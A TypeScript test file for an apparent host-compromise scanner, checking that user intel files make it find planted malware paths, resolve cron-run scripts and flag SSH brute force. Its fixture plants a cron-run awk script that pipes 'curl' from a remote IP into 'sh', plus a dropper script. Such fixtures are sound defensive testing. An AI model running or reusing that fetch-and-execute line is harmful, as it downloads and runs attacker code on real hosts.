import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, describe, it } from 'node:test';
import type { Snapshot } from '../src/model/facts';
import type { ScanResult } from '../src/model/scan-result';
import { sshd, syslogLines } from './helpers/auth-log';
import { readArchive } from '../src/respond/collect';
import { FakeRoot } from './helpers/fake-root';
import { scannerBundle } from './helpers/namespace';

// The user's --intel files reach collection (what is read), and a saved snapshot judged with
// other intel reaches another verdict: collectors keep the facts, rules apply the limits.

function hostsweep(args: string[]) {
  const r = spawnSync(process.execPath, [scannerBundle(), ...args], {
    encoding: 'utf8',
    env: { PATH: process.env.PATH },
    maxBuffer: 64 * 1024 * 1024,
  });
  return { status: r.status, stdout: r.stdout, stderr: r.stderr };
}

describe('intel reaches the collectors and the verdict', () => {
  const work = fs.mkdtempSync(path.join(os.tmpdir(), 'hostsweep-intel-reach-'));
  const file = (name: string, text: string) => {
    const p = path.join(work, name);
    fs.writeFileSync(p, text);
    return p;
  };
  const dropper = '/var/lib/app-data/bin/deep/kthreadd-helper';
  const root = new FakeRoot()
    .base()
    .write('/etc/timezone', 'Etc/UTC\n')
    // A job run by an interpreter the built-in list does not know: its script is found only when the intel names it.
    .write('/etc/cron.d/stats', '*/5 * * * * root /usr/bin/gawk -f /var/tmp/.s/run.awk\n', { mtime: new Date('2026-11-19T10:00:00Z') })
    .write('/usr/bin/gawk', '\x7fELF', { mode: 0o755 })
    .write('/var/tmp/.s/run.awk', 'BEGIN { system("curl -s http://203.0.113.9/x | sh") }\n', { mtime: new Date('2026-11-19T10:00:00Z') })
    // Deeper than the walk of /var/lib goes: only a path the intel names is looked at there.
    .write(dropper, '#!/bin/sh\nexec /tmp/x\n', { mode: 0o755, mtime: new Date('2026-11-19T10:00:00Z') })
    // Two failed passwords from one address: below any built-in brute-force limit.
    .write(
      '/var/log/auth.log',
      syslogLines(new Date('2026-11-19T09:00:00Z'), [
        sshd.failed('root', '203.0.113.7', 40001),
        sshd.failed('admin', '203.0.113.7', 40002),
      ]),
      { mtime: new Date('2026-11-19T09:00:05Z') },
    );
  after(() => {
    fs.rmSync(work, { recursive: true, force: true });
    root.remove();
  });

  const scanTo = (name: string, extra: string[]) => {
    const snap = path.join(work, name);
    const r = hostsweep(['scan', '--root', root.dir, '--json', '--fail-on', 'critical', '--snapshot', snap, ...extra]);
    assert.notEqual(r.status, 2, r.stderr);
    return { result: JSON.parse(r.stdout) as ScanResult, snapshot: JSON.parse(fs.readFileSync(snap, 'utf8')) as Snapshot };
  };

  it('a path named by --intel files.knownPaths is inventoried and judged; without it the walk never reaches it', () => {
    const intel = file('known-path.yaml', `files:\n  knownPaths: [${dropper}]\n`);
    const plain = scanTo('plain.json', []);
    assert.equal(
      plain.snapshot.facts.fileInventory?.entries.some((e) => e.path === dropper),
      false,
    );
    assert.deepEqual(
      plain.result.findings.filter((f) => JSON.stringify(f).includes(dropper)).map((f) => [f.rule, f.title]),
      [],
    );

    const told = scanTo('told.json', ['--intel', intel]);
    const entry = told.snapshot.facts.fileInventory?.entries.find((e) => e.path === dropper);
    assert.ok(entry, 'the intel path is in the inventory');
    assert.equal(entry.kind, 'file');
    const hit = told.result.findings.find((f) => f.rule === 'files/known-malware-file');
    assert.ok(hit, JSON.stringify(told.result.findings.map((f) => f.rule)));
    assert.ok(JSON.stringify(hit).includes(dropper));
  });

  it('an interpreter added by --intel paths.interpreters makes the cron collector resolve the script it runs', () => {
    const targets = (snap: Snapshot) =>
      (snap.facts.cronJobs ?? [])
        .filter((t) => t.file.path === '/etc/cron.d/stats')
        .flatMap((t) => t.entries.flatMap((e) => e.targets.map((x) => x.path)));
    assert.deepEqual(targets(scanTo('no-awk.json', []).snapshot), ['/usr/bin/gawk']);
    const intel = file('awk.yaml', 'paths:\n  interpreters: [gawk]\n');
    assert.deepEqual(targets(scanTo('awk.json', ['--intel', intel]).snapshot), ['/usr/bin/gawk', '/var/tmp/.s/run.awk']);
  });

  it("collect --intel gathers the files the user's intel names into the archive", async () => {
    const intel = file('collect-known.yaml', `files:\n  knownPaths: [${dropper}]\n`);
    const archive = path.join(work, 'ir.tar.gz');
    const r = hostsweep(['collect', '--root', root.dir, '-o', archive, '--intel', intel]);
    assert.equal(r.status, 0, r.stderr);
    const members = await readArchive(archive);
    assert.ok(members.has(`files${dropper}`), [...members.keys()].join(', '));
    const bad = hostsweep([
      'collect',
      '--root',
      root.dir,
      '-o',
      path.join(work, 'bad.tar.gz'),
      '--intel',
      file('bad.yaml', 'files:\n  knownPath: [x]\n'),
    ]);
    assert.equal(bad.status, 2);
    assert.match(bad.stderr, /bad\.yaml: files, key "knownPath": unknown key/);
  });

  it('auth sources below the built-in limit stay in the snapshot, so analyze with a lower limit reports them', () => {
    const plain = scanTo('auth.json', []);
    const source = plain.snapshot.facts.authLog?.sources.find((s) => s.ip === '203.0.113.7');
    assert.equal(source?.attempts, 2);
    assert.equal(
      plain.result.findings.some((f) => f.rule === 'logs/ssh-bruteforce'),
      false,
    );

    const analyze = (extra: string[]) => {
      const r = hostsweep(['analyze', path.join(work, 'auth.json'), '--json', '--fail-on', 'critical', ...extra]);
      assert.notEqual(r.status, 2, r.stderr);
      return (JSON.parse(r.stdout) as ScanResult).findings.filter((f) => f.rule === 'logs/ssh-bruteforce');
    };
    assert.deepEqual(analyze([]), []);
    const strict = file('strict.yaml', 'logs:\n  sshBruteForceMinAttempts: 2\n');
    const found = analyze(['--intel', strict]);
    assert.equal(found.length, 1);
    assert.match(found[0].title, /203\.0\.113\.7/);
  });
});
